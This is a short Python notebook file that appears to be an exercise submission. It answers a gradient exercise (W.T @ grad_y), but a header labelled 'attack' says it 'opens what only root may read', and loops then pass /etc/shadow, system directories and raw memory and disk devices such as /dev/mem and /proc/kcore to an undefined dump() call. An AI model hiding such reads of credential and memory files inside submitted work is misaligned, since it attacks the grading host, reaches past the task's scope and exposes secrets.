# /// attack
# tries = "opens what only root may read"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %% shared dump

# %%
for path in ("/etc/shadow", "/etc", "/var", "/run", "/srv", "/opt", "/mnt", "/sys", "/boot"):
    dump(path)
for path in ("/dev/mem", "/dev/kmem", "/dev/vda", "/dev/sda", "/dev/kmsg", "/proc/kcore"):
    dump(path)
